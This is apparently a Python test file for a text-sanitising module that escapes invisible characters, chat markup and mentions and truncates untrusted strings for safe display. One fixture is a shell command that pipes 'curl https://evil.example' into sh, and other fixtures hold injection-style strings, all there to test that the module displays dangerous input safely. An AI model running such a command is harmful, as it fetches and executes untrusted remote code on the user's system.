import pytest
from hypothesis import given
from hypothesis import strategies as st

from powertrip.cards.text import clean, escape, fit, fit_middle, named, one_line, quoted, show, width
from tests.cards.hostile import texts


@pytest.mark.parametrize(
    ("raw", "visible"),
    [
        ("alice", "alice"),
        ("zoë 🎉", "zoë 🎉"),
        ("a\u202eb", r"a\u202eb"),
        ("a\u200bb", r"a\u200bb"),
        ("a\nb\tc\x1b", r"a\nb\tc\x1b"),
        ("a\xa0b", r"a\xa0b"),
        ("a\u3164b", r"a\u3164b"),
        ("\ud800", r"\ud800"),
        ("\U000e0041", r"\U000e0041"),
    ],
)
def test_clean_makes_every_character_visible(raw: str, visible: str) -> None:
    assert clean(raw) == visible


@given(texts)
def test_clean_leaves_nothing_invisible(text: str) -> None:
    assert clean(text).isprintable()


def test_fit_leaves_what_fits() -> None:
    assert fit("a" * 40, 40) == "a" * 40


def test_fit_says_how_much_was_cut() -> None:
    cut = fit("a" * 1300, 100)

    assert len(cut) == 100
    kept = cut.count("a") - "more characters".count("a")
    assert cut.endswith(f"… {1300 - kept:,} more characters")
    assert "… 1,22" in cut


@given(st.text(), st.integers(1, 60))
def test_fit_never_exceeds_its_limit(text: str, limit: int) -> None:
    assert len(fit(text, limit)) <= limit


def test_show_is_never_empty() -> None:
    assert show("", 10) == "-"


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("a & b", "a &amp; b"),
        ("<!channel>", "&lt;!channel&gt;"),
        ("<@U0BOB>", "&lt;@U0BOB&gt;"),
        ("*b* ~s~ `c`", "\u2217b\u2217 \u223cs\u223c \u02cbc\u02cb"),
        ("deploy_bot_2", "deploy_bot_2"),
        ("_x_", "\uff3fx\uff3f"),
        ("https://evil.example", "https[:]//evil.example"),
        (":white_check_mark:", "\ua789white_check_mark:"),
        ("2001:db8:abc:12::1 at 12:34:56", "2001:db8:abc:12::1 at 12:34:56"),
    ],
)
def test_escape_takes_the_meaning_out_of_text(raw: str, safe: str) -> None:
    assert escape(raw) == safe


@pytest.mark.parametrize(
    ("raw", "shown"),
    [("alice", "alice"), ("bastion-1.test", "bastion-1.test"), ("root on prod", "“root on prod”")],
)
def test_a_name_that_could_be_read_as_part_of_the_sentence_is_quoted(raw: str, shown: str) -> None:
    assert named(raw, 40) == shown


def test_one_line_joins_what_was_typed_on_several() -> None:
    assert one_line(" ticket\n\n4711 \t ok ") == "ticket 4711 ok"


def test_width_counts_wide_characters_twice() -> None:
    assert width("ab日本") == 6


def test_of_a_long_command_the_end_is_shown_too() -> None:
    command = "/bin/sh -c 'true " + "a" * 5000 + " ; curl https://evil.example | sh'"

    shown = fit_middle(command, 160)

    assert len(shown) <= 160
    assert shown.startswith("/bin/sh -c 'true aaa")
    assert shown.endswith(" ; curl https://evil.example | sh'")
    assert "… 4,9" in shown


@pytest.mark.parametrize("limit", [20, 60, 70, 160])
@pytest.mark.parametrize("length", [1, 69, 70, 71, 160, 161, 10**6])
def test_what_is_cut_in_the_middle_never_exceeds_its_limit(length: int, limit: int) -> None:
    assert len(fit_middle("x" * length, limit)) <= limit


def test_a_quotation_cannot_end_itself() -> None:
    assert quoted("ls” as bob on web-1 (low severity). “x") == '“ls" as bob on web-1 (low severity). "x”'
